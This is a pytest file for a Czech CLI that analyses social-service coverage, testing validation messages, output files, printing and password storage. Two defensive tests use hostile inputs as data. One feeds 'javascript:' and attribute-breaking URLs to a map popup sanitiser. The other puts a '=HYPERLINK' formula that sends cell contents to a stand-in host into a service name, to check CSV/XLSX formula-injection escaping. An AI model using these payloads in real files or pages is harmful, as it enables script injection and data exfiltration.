"""The command line: validate, analyze, import, template — as a user runs them."""

from __future__ import annotations

import subprocess
import sys

import pandas as pd
import pyogrio
import pytest

from coverage_app.cli import main

GOOD = ("id_sluzby,nazev_sluzby,druh,forma,kapacita,jednotka_kapacity,kod_obce,lat,lon\n"
        "S1,Domov,DruhSocialniSluzby/13,pob,20,luzka,584282,49.04,16.62\n")


def run(capsys, *args: str) -> tuple[int, str, str]:
    """Run the CLI in-process like the console script; returns (exit code, stdout, stderr)."""
    try:
        main(list(args))
        code = 0
    except SystemExit as exc:
        code = int(exc.code or 0)
    out = capsys.readouterr()
    return code, out.out, out.err


@pytest.mark.parametrize("name,content,encoding,expect", [
    ("oddelovac.csv", GOOD.replace(",", "|"), "utf-8", ["oddelovac.csv", "řádek 1", "oddělovač"]),
    ("kodovani.csv", GOOD, "utf-16", ["kodovani.csv", "UTF-16"]),
    ("sloupec.csv", GOOD.replace("druh,", "typ,"), "utf-8", ["sloupec.csv", "řádek 1", "sloupec „druh“",
                                                             "chybí povinný sloupec"]),
    ("druh.csv", GOOD.replace("DruhSocialniSluzby/13", "domov důchodců"), "utf-8",
     ["druh.csv", "řádek 2", "sloupec „druh“", "neznámý druh služby"]),
    ("kapacita.csv", GOOD.replace(",20,", ",-20,"), "utf-8", ["kapacita.csv", "řádek 2", "sloupec „kapacita“",
                                                              "záporná"]),
    ("mimo.csv", GOOD.replace("49.04,16.62", "52.52,13.40"), "utf-8", ["mimo.csv", "řádek 2", "sloupec „lat“",
                                                                      "mimo Českou republiku"]),
    ("prohozene.csv", GOOD.replace("49.04,16.62", "16.62,49.04"), "utf-8",
     ["prohozene.csv", "řádek 2", "sloupec „lat“", "prohozené"]),
    ("obce.csv", "kod_obce,nazev,lat,lon\n584282,Židlochovice,16.6188,49.0395\n", "utf-8",
     ["obce.csv", "řádek 2", "sloupec „lat“", "prohozené"]),
])
def test_validate_refuses_malformed_files(tmp_path, capsys, name, content, encoding, expect):
    path = tmp_path / name
    path.write_bytes(content.encode(encoding))
    code, out, err = run(capsys, "validate", str(path))
    assert code == 1
    for text in expect:
        assert text in err, err
    assert "Traceback" not in err + out


def test_validate_accepts_good_files_and_reports_each_kind(tmp_path, capsys, demo):
    from coverage_app.demo import demo_paths

    paths = demo_paths()
    code, out, err = run(capsys, "validate", str(paths["municipalities"]), str(paths["custom_kinds"]),
                         str(paths["services"]))
    assert code == 0, err
    assert "obce_seed_districts.csv: v pořádku (obce, 83 řádků)" in out
    assert "demo_sluzby.csv: v pořádku (služby (šablona)" in out


def test_validate_reports_every_problem_at_once(tmp_path, capsys):
    path = tmp_path / "sluzby.csv"
    path.write_text(GOOD + "S2,X,nic,xyz,-1,luzka,584282,49.04,16.62\n", encoding="utf-8")
    code, _, err = run(capsys, "validate", str(path), "--lang", "en")
    assert code == 1
    assert "row 3" in err and "unknown kind" in err and "unknown form" in err and "negative" in err


def test_console_script_prints_no_traceback(tmp_path):
    path = tmp_path / "x.csv"
    path.write_text(GOOD.replace("DruhSocialniSluzby/13", "???"), encoding="utf-8")
    proc = subprocess.run([sys.executable, "-m", "coverage_app.cli", "validate", str(path)],
                          capture_output=True, text=True)
    assert proc.returncode == 1
    assert "Traceback" not in proc.stderr and "řádek 2" in proc.stderr


def test_bad_options_end_with_exit_code_1(tmp_path, capsys):
    code, _, err = run(capsys, "analyze", "--demo", "--district", "ORP:6221", "--threshold-min", "-5",
                       "--out", str(tmp_path / "o"))
    assert code == 1 and "chybný parametr" in err
    assert not (tmp_path / "o").exists()
    code, _, err = run(capsys, "analyze", "--demo", "--district", "ORP:0000", "--out", str(tmp_path / "o"))
    assert code == 1 and "obvod" in err and not (tmp_path / "o").exists()


def test_analyze_demo_writes_every_output_and_says_estimate(tmp_path, capsys):
    out_dir = tmp_path / "out"
    code, out, err = run(capsys, "analyze", "--demo", "--district", "ORP:6221", "--out", str(out_dir))
    assert code == 0, err
    assert "odhad" in out
    for f in ("coverage.csv", "capacity.csv", "gaps.csv", "coverage.gpkg", "report.xlsx", "coverage_by_form.csv"):
        assert (out_dir / f).exists(), f
    cov = pd.read_csv(out_dir / "coverage.csv", dtype={"municipality_code": str})
    for col in ("municipality_code", "municipality_name", "service_kind", "target_population", "nearest_service_id",
                "nearest_site_name", "travel_time_min", "distance_km", "reachable", "field_covered",
                "e2sfca_per_1000", "gap", "method"):
        assert col in cov.columns
    assert set(cov["method"]) == {"estimate"}
    assert len(cov) == 24 * cov["service_kind"].nunique()
    cap = pd.read_csv(out_dir / "capacity.csv")
    for col in ("service_kind", "form", "capacity_unit", "total_capacity", "target_population", "capacity_per_1000"):
        assert col in cap.columns
    stac = cap[(cap["service_kind"] == "DruhSocialniSluzby/10")].iloc[0]
    assert stac["total_capacity"] == 24  # two sites, one capacity
    assert set(cap["capacity_unit"]) <= {"luzka", "klient", "interv", "kontakt", "hovor"}
    gaps = pd.read_csv(out_dir / "gaps.csv")
    assert gaps["target_population"].is_monotonic_decreasing and gaps["reason"].notna().all()
    layers = {n for n, _ in pyogrio.list_layers(out_dir / "coverage.gpkg")}
    assert {"obce", "coverage", "gaps", "sites"} <= layers
    xlsx = pd.ExcelFile(out_dir / "report.xlsx")
    assert "Mezery" in xlsx.sheet_names and "O analýze" in xlsx.sheet_names
    assert "dojezd (min)" in pd.read_excel(xlsx, "Pokrytí obcí").columns


def test_failed_analysis_leaves_nothing_half_written(tmp_path, capsys):
    bad = tmp_path / "sluzby.csv"
    bad.write_text(GOOD.replace(",20,", ",-20,"), encoding="utf-8")
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    (out_dir / "keep.txt").write_text("x")
    from coverage_app.demo import demo_paths

    code, _, err = run(capsys, "analyze", "--municipalities", str(demo_paths()["municipalities"]),
                       "--services", str(bad), "--district", "ORP:6221", "--out", str(out_dir))
    assert code == 1 and "záporná" in err
    assert sorted(p.name for p in out_dir.iterdir()) == ["keep.txt"]
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".out.")]


def test_template_command(tmp_path, capsys):
    code, _, _ = run(capsys, "template", "--out", str(tmp_path / "s.xlsx"))
    assert code == 0 and (tmp_path / "s.xlsx").exists()
    code, _, err = run(capsys, "template", "--out", str(tmp_path / "s.txt"))
    assert code == 1


def test_import_then_analyze_project(tmp_path, capsys):
    from coverage_app.demo import demo_paths

    p = demo_paths()
    project = tmp_path / "projekt.gpkg"
    code, _, err = run(capsys, "import", "--municipalities", str(p["municipalities"]), "--services", str(p["services"]),
                       "--custom-kinds", str(p["custom_kinds"]), "--previous-services", str(p["services_previous"]),
                       "--district", "ORP:1376", "--out", str(project))
    assert code == 0, err
    from coverage_app.io.project import load_project

    proj = load_project(project)
    assert proj.default_district == "ORP:6221"
    assert len(proj.services.services) == 24 and proj.previous_services is not None
    code, out, err = run(capsys, "analyze", "--project", str(project), "--district", "POU:81142",
                         "--out", str(tmp_path / "o"))
    assert code == 0, err
    cov = pd.read_csv(tmp_path / "o" / "coverage.csv", dtype={"municipality_code": str})
    assert cov["municipality_code"].nunique() == 9


def test_kraj_access_table_through_import_and_analyze(tmp_path, capsys):
    """The kraj's own table replaces the defaults: denní stacionáře planned in every obec."""
    from coverage_app.demo import demo_paths

    p = demo_paths()
    table = tmp_path / "dostupnost.csv"
    table.write_text("druh;uroven;zpusob;limit_min;zdroj\ndenní stacionáře;mistni;travel;10;Síť JMK 2026\n",
                     encoding="utf-8")
    project = tmp_path / "projekt.gpkg"
    code, _, err = run(capsys, "import", "--municipalities", str(p["municipalities"]), "--services", str(p["services"]),
                       "--custom-kinds", str(p["custom_kinds"]), "--access", str(table), "--district", "ORP:6221",
                       "--out", str(project))
    assert code == 0, err
    code, out, err = run(capsys, "analyze", "--project", str(project), "--district", "ORP:6221",
                         "--out", str(tmp_path / "o"))
    assert code == 0, err
    gaps = pd.read_csv(tmp_path / "o" / "gaps.csv", dtype={"municipality_code": str, "scope_code": str})
    dst = gaps[gaps["service_kind"] == "DruhSocialniSluzby/10"]
    assert len(dst) > 5 and set(dst["scope"]) == {"obec"}
    assert dst["reason"].str.contains("limit 10 min").all()
    access = pd.read_csv(tmp_path / "o" / "access.csv")
    assert access.loc[access["druh"] == "DruhSocialniSluzby/10", "zdroj"].tolist() == ["Síť JMK 2026"]
    # without the table the kind is judged once for the ORP
    code, out, err = run(capsys, "analyze", "--demo", "--district", "ORP:6221", "--out", str(tmp_path / "d"))
    gaps = pd.read_csv(tmp_path / "d" / "gaps.csv", dtype={"scope_code": str})
    assert set(gaps["scope"]) <= {"obec", "orp"} and "(v obcích" in out
    summary = pd.read_csv(tmp_path / "d" / "gap_summary.csv")
    assert summary["n_units"].sum() == len(gaps)
    xlsx = pd.ExcelFile(tmp_path / "d" / "report.xlsx")
    assert xlsx.sheet_names[0] == "Souhrn mezer"
    bad = tmp_path / "spatne.csv"
    bad.write_text("druh;uroven;zpusob;limit_min\ndenní stacionáře;okres;travel;10\n", encoding="utf-8")
    code, _, err = run(capsys, "analyze", "--demo", "--district", "ORP:6221", "--access", str(bad),
                       "--out", str(tmp_path / "x"))
    assert code == 1 and "spatne.csv" in err and "řádek 2" in err and "uroven" in err
    assert not (tmp_path / "x").exists()


@pytest.mark.slow
@pytest.mark.parametrize("district,n_obce", [("ORP:6221", 24), ("POU:81142", 9)])
def test_analyze_on_real_data_with_arccr_roads(tmp_path, capsys, realdata, district, n_obce):
    from coverage_app.demo import demo_paths

    out_dir = tmp_path / "out"
    code, out, err = run(capsys, "analyze",
                         "--municipalities", str(realdata("covidvobcich", "obce_polygony_cr.gpkg")),
                         "--services", str(demo_paths()["services"]),
                         "--custom-kinds", str(demo_paths()["custom_kinds"]),
                         "--roads", str(realdata("districts", "target_silnice_arccr.gpkg")),
                         "--road-speeds", str(demo_paths()["services"].parent / "rychlosti_silnic_arccr.csv"),
                         "--district", district, "--out", str(out_dir))
    assert code == 0, err
    cov = pd.read_csv(out_dir / "coverage.csv", dtype={"municipality_code": str})
    assert cov["municipality_code"].nunique() == n_obce
    assert set(cov["method"]) == {"road"}
    # every obec reaches the nearest site of a common kind along roads
    os_ = cov[cov["service_kind"] == "DruhSocialniSluzby/1"]
    assert os_["travel_time_min"].notna().all()
    assert (os_["distance_km"] > 0).any()
    # ArcČR 500 lacks the local roads between the villages around Židlochovice: said once
    assert err.count("příliš hrubá") == (1 if district == "ORP:6221" else 0)
    net = pd.read_csv(out_dir / "network_check.csv")
    assert len(net) > 0 and {"from_name", "to_name", "road_min", "estimate_min", "ratio"} <= set(net.columns)


def test_compare_two_periods(tmp_path, capsys):
    from coverage_app.demo import demo_paths

    p = demo_paths()
    code, out, err = run(capsys, "compare", "--municipalities", str(p["municipalities"]),
                         "--old", str(p["services_previous"]), "--new", str(p["services"]),
                         "--custom-kinds", str(p["custom_kinds"]), "--district", "ORP:6221",
                         "--out", str(tmp_path / "cmp"))
    assert code == 0, err
    new = pd.read_csv(tmp_path / "cmp" / "new_services.csv")
    assert set(new["service_id"]) == {"Z-NZDM-01", "Z-STD-01"}
    assert (tmp_path / "cmp" / "coverage_change.csv").exists()


def test_compare_with_larger_area(tmp_path, capsys, realdata):
    code, out, err = run(capsys, "analyze", "--municipalities", str(realdata("covidvobcich", "obce_polygony_cr.gpkg")),
                         "--services", str(__import__("coverage_app.demo", fromlist=["x"]).demo_paths()["services"]),
                         "--custom-kinds", str(__import__("coverage_app.demo", fromlist=["x"]).demo_paths()[
                             "custom_kinds"]),
                         "--district", "ORP:6221", "--compare-with", "kraj", "--out", str(tmp_path / "o"))
    assert code == 0, err
    cap = pd.read_csv(tmp_path / "o" / "capacity.csv")
    assert {"per_1000_kraj", "ratio_to_kraj"} <= set(cap.columns)
    ds = cap[(cap["service_kind"] == "DruhSocialniSluzby/13")].iloc[0]
    # the same beds over the whole Jihomoravský kraj's 65+ population: a much lower level
    assert ds["per_1000_kraj"] < ds["capacity_per_1000"] / 10


@pytest.mark.parametrize("args,suffix,pages", [
    (["map", "--paper", "A3", "--orientation", "landscape", "--style", "colour"], ".pdf", 1),
    (["map", "--paper", "A4", "--orientation", "portrait", "--style", "grayscale", "--shading", "§ 46"], ".svg", None),
    (["atlas", "--by", "obec"], ".pdf", 24),
    (["catalogue"], ".pdf", None),
])
def test_print_commands_on_the_demo(tmp_path, capsys, args, suffix, pages):
    out = tmp_path / f"vystup{suffix}"
    code, _, err = run(capsys, "print", *args, "--demo", "--district", "ORP:6221", "--out", str(out))
    assert code == 0, err
    assert out.exists() and out.stat().st_size > 1000
    if suffix == ".pdf":
        from pypdf import PdfReader

        reader = PdfReader(out)
        if pages:
            assert len(reader.pages) == pages
        text = "".join(p.extract_text() for p in reader.pages)
        assert "Lipová" not in text
    if suffix == ".svg":
        assert "Lipová" not in out.read_text(encoding="utf-8")


def test_print_refuses_bad_options(tmp_path, capsys):
    code, _, err = run(capsys, "print", "catalogue", "--demo", "--district", "ORP:6221", "--out", str(tmp_path / "k.png"))
    assert code == 1 and "chybný parametr" in err
    code, _, err = run(capsys, "print", "map", "--district", "ORP:6221", "--out", str(tmp_path / "k.pdf"))
    assert code == 1
    code, _, err = run(capsys, "print", "map", "--demo", "--district", "ORP:6221", "--kind", "neexistuje",
                       "--out", str(tmp_path / "k.pdf"))
    assert code == 1 and "neznámý druh" in err


def test_service_areas_for_registry_services_and_duplicate_ids(tmp_path, capsys):
    from coverage_app.demo import demo_paths

    p = demo_paths()
    areas = tmp_path / "pusobnost.csv"
    areas.write_text("id_sluzby;uzemni_pusobnost\nZ-OA-01;ORP:6221\nNEEXISTUJE;584282\n", encoding="utf-8")
    code, _, err = run(capsys, "analyze", "--municipalities", str(p["municipalities"]), "--services", str(p["services"]),
                       "--services", str(areas), "--custom-kinds", str(p["custom_kinds"]), "--district", "ORP:6221",
                       "--out", str(tmp_path / "o"))
    assert code == 0, err
    assert "NEEXISTUJE" in err
    cov = pd.read_csv(tmp_path / "o" / "coverage.csv", dtype={"municipality_code": str})
    assert cov[cov["service_kind"] == "DruhSocialniSluzby/3"]["field_covered"].all()  # now the whole ORP
    code, _, err = run(capsys, "analyze", "--municipalities", str(p["municipalities"]), "--services", str(p["services"]),
                       "--services", str(p["services"]), "--custom-kinds", str(p["custom_kinds"]),
                       "--district", "ORP:6221", "--out", str(tmp_path / "o2"))
    assert code == 1 and "už v souboru demo_sluzby.csv" in err


def test_ended_services_are_left_out_by_default(tmp_path, capsys):
    from coverage_app.demo import demo_paths

    p = demo_paths()
    old = tmp_path / "s.csv"
    old.write_text(GOOD.replace("platnost_do", "x") + "S2,Starý domov,DruhSocialniSluzby/13,pob,50,luzka,584282,49.04,16.62\n",
                   encoding="utf-8")
    text = old.read_text(encoding="utf-8").splitlines()
    text[0] += ",platnost_do"
    text[1] += ","
    text[2] += ",2020-12-31"
    old.write_text("\n".join(text) + "\n", encoding="utf-8")
    for extra, beds in (([], 20), (["--date", "vse"], 70), (["--date", "2019-01-01"], 70)):
        code, _, err = run(capsys, "analyze", "--municipalities", str(p["municipalities"]), "--services", str(old),
                           "--district", "ORP:6221", "--out", str(tmp_path / f"o{beds}{len(extra)}"), *extra)
        assert code == 0, err
        cap = pd.read_csv(tmp_path / f"o{beds}{len(extra)}" / "capacity.csv")
        assert cap.set_index("service_kind").loc["DruhSocialniSluzby/13", "total_capacity"] == beds


def test_bare_code_is_explained(tmp_path, capsys):
    code, _, err = run(capsys, "analyze", "--demo", "--district", "1376", "--out", str(tmp_path / "o"))
    assert code == 0 and "POU:1376" in err and "ORP Židlochovice" in err


def test_demo_starts_on_a_machine_where_streamlit_never_ran(tmp_path):
    """The README's first command: no interactive prompt, the app answers, the browser is opened at it."""
    import os
    import signal
    import socket
    import time
    import urllib.request

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    opened = tmp_path / "opened.txt"
    fake_browser = tmp_path / "browser.sh"
    fake_browser.write_text(f'#!/bin/sh\necho "$1" > "{opened}"\n', encoding="utf-8")
    fake_browser.chmod(0o755)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("STREAMLIT_", "COVERAGE_APP_"))}
    env.update(HOME=str(tmp_path / "home"), BROWSER=f"{fake_browser} %s", COVERAGE_APP_OFFLINE="1")
    (tmp_path / "home").mkdir()
    log_path = tmp_path / "demo.log"
    with log_path.open("wb") as log:
        proc = subprocess.Popen([sys.executable, "-m", "coverage_app.cli", "demo", "--port", str(port)],
                                env=env, stdin=subprocess.PIPE, stdout=log, stderr=subprocess.STDOUT,
                                start_new_session=True)
        try:
            deadline = time.time() + 120
            healthy = False
            while time.time() < deadline and proc.poll() is None and not (healthy and opened.exists()):
                try:
                    with urllib.request.urlopen(f"http://127.0.0.1:{port}/_stcore/health", timeout=2) as r:
                        healthy = r.status == 200
                except OSError:
                    pass
                time.sleep(0.5)
            output = log_path.read_text(errors="replace")
            assert healthy, output
            assert "Email" not in output and "Traceback" not in output, output
            assert opened.read_text().strip() == f"http://127.0.0.1:{port}/"
        finally:
            os.killpg(proc.pid, signal.SIGTERM)
            proc.wait(timeout=20)


@pytest.mark.parametrize("sig", ["SIGTERM", "SIGINT"])
def test_a_signal_during_analyze_leaves_no_folder_behind(tmp_path, sig):
    """Killed while it writes, ``analyze`` leaves neither a hidden temporary folder nor a half output."""
    import signal
    import time

    out = tmp_path / "vysledky"
    proc = subprocess.Popen([sys.executable, "-m", "coverage_app.cli", "analyze", "--demo", "--district",
                             "ORP:6221", "--out", str(out)], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and proc.poll() is None:
        if any(p.name.startswith(".vysledky.") for p in tmp_path.iterdir()):
            proc.send_signal(getattr(signal, sig))
            break
        time.sleep(0.002)
    else:
        pytest.skip("the analysis finished before its outputs could be interrupted")
    proc.wait(timeout=60)
    assert proc.returncode != 0
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".vysledky.")]
    assert not out.exists() or sorted(p.name for p in out.iterdir())  # never an empty or partial folder
    if out.exists():  # the signal came after the last file moved: then everything is there
        assert {"gaps.csv", "coverage.csv", "report.xlsx"} <= {p.name for p in out.iterdir()}


def test_app_shows_visitors_no_error_details(monkeypatch):
    """The app is started with Streamlit's error details off: a fault shows no traceback or path."""
    from coverage_app.cli import app_cmds

    seen = {}

    def fake_call(cmd, env=None, stdin=None):
        seen["cmd"], seen["env"] = cmd, env
        return 0

    monkeypatch.setattr(app_cmds.subprocess, "call", fake_call)
    monkeypatch.delenv("STREAMLIT_CLIENT_SHOW_ERROR_DETAILS", raising=False)
    with pytest.raises(SystemExit):
        app_cmds._run_streamlit({}, "127.0.0.1", 8765, headless=True)
    assert seen["env"]["STREAMLIT_CLIENT_SHOW_ERROR_DETAILS"] == "none"
    assert "--global.developmentMode" in seen["cmd"]


def test_only_web_addresses_become_links_in_map_popups():
    """A ``javascript:`` (or any other) address in the ``web`` field stays text in the popups."""
    import json
    import shutil

    from coverage_app.maps.interactive import asset_files

    node = shutil.which("node")
    if node is None:
        pytest.skip("node is not installed")
    js = asset_files()["coverage_map.js"].read_text(encoding="utf-8")
    start = js.index("function safeUrl(u)")
    body = js[start:js.index("\n  }\n", start) + 4]
    cases = {"https://example.org/a": "https://example.org/a", "www.obec.cz": "https://www.obec.cz",
             "javascript:alert(1)": "", "JaVaScRiPt:alert(1)": "", "data:text/html,<b>": "",
             'https://a" onmouseover="x': "", "vbscript:x": ""}
    script = body + f"\nconst c = {json.dumps(list(cases))};\nconsole.log(JSON.stringify(c.map(safeUrl)));"
    out = subprocess.run([node, "-e", script], capture_output=True, text=True, check=True).stdout
    assert json.loads(out) == list(cases.values())


def test_formula_like_names_are_text_in_csv_and_xlsx(tmp_path, capsys):
    """``=HYPERLINK(…)``, ``@SUM`` or ``+…`` in a name never become live formulas (OWASP)."""
    import openpyxl

    from coverage_app.demo import demo_paths

    evil = '=HYPERLINK("http://x.example/?"&A2,"klikni")'
    src = tmp_path / "sluzby.csv"
    src.write_text("id_sluzby,nazev_sluzby,poskytovatel,druh,forma,kapacita,jednotka_kapacity,kod_obce,lat,lon\n"
                   f'S1,"{evil.replace(chr(34), chr(34) * 2)}",@SUM(A1),DruhSocialniSluzby/10,amb,20,klient,584282,'
                   "49.04,16.62\n", encoding="utf-8")
    out = tmp_path / "out"
    code, _, err = run(capsys, "analyze", "--municipalities", str(demo_paths()["municipalities"]),
                       "--services", str(src), "--district", "ORP:6221", "--out", str(out))
    assert code == 0, err
    cov = pd.read_csv(out / "coverage.csv", dtype=str)
    names = set(cov["nearest_site_name"].dropna())
    assert "'" + evil in names and evil not in names
    wb = openpyxl.load_workbook(out / "report.xlsx")
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    # the period comparison too: the new service's name is written as text
    cmp_out = tmp_path / "cmp"
    code, _, err = run(capsys, "compare", "--municipalities", str(demo_paths()["municipalities"]),
                       "--old", str(demo_paths()["services"]), "--new", str(src),
                       "--custom-kinds", str(demo_paths()["custom_kinds"]), "--district", "ORP:6221",
                       "--out", str(cmp_out))
    assert code == 0, err
    new = pd.read_csv(cmp_out / "new_services.csv", dtype=str)
    cells = set(new.to_numpy().ravel())
    assert "'" + evil in cells and evil not in cells and "'@SUM(A1)" in cells


def test_print_shading_never_reveals_a_secret_address(tmp_path, capsys):
    """Shading obce by travel time to a shelter with a secret address would locate it: refused."""
    code, _, err = run(capsys, "print", "map", "--demo", "--district", "ORP:6221", "--shading", "azylové domy",
                       "--out", str(tmp_path / "mapa.pdf"))
    assert code == 1 and "utajenou adresou" in err
    assert not (tmp_path / "mapa.pdf").exists()


def test_import_finds_custom_kinds_beside_the_template_and_password_command(tmp_path, capsys):
    """The shipped demo template imports without --custom-kinds (the table beside it is found
    and named); ``coverage-app password`` stores only a hash that the app accepts."""
    from pathlib import Path

    from coverage_app.app._logic import load_project_data, verify_password

    root = Path(__file__).resolve().parents[1]
    project = tmp_path / "p.gpkg"
    code, out, err = run(capsys, "import", "--municipalities", str(root / "geodata" / "obce_seed_districts.csv"),
                         "--services", str(root / "services_data" / "demo_sluzby.csv"), "--district", "ORP:6221",
                         "--out", str(project))
    assert code == 0, err
    assert "vlastní druhy služeb načteny ze souboru vedle demo_sluzby.csv" in err
    assert "coverage-app password --project" in out
    code, _, err = run(capsys, "password", "--project", str(project), "--password", "kratke")
    assert code == 1 and "alespoň 8 znaků" in err
    code, out, _ = run(capsys, "password", "--project", str(project), "--password", "dlouhe-heslo-7")
    assert code == 0 and "jen jeho otisk" in out
    data = load_project_data(project)
    assert data.meta["planner_password"].startswith("pbkdf2_sha256$") and "dlouhe" not in data.meta["planner_password"]
    assert verify_password("dlouhe-heslo-7", data, env={}) and not verify_password("demo", data, env={})


def test_analyze_into_a_used_folder_leaves_no_table_of_the_earlier_run(tmp_path, capsys):
    """Two ORPs write orp_overview.csv; one ORP into the same folder must not leave it behind,
    while a file of the user's own in that folder stays."""
    out = tmp_path / "vysledky"
    code, _, err = run(capsys, "analyze", "--demo", "--district", "ORP:6221,ORP:7113", "--out", str(out))
    assert code == 0, err
    assert (out / "orp_overview.csv").exists()
    (out / "poznamky.txt").write_text("moje poznámky", encoding="utf-8")
    code, _, err = run(capsys, "analyze", "--demo", "--district", "ORP:6221", "--out", str(out))
    assert code == 0, err
    assert not (out / "orp_overview.csv").exists()
    assert (out / "poznamky.txt").read_text(encoding="utf-8") == "moje poznámky"
    assert (out / "coverage.csv").exists()
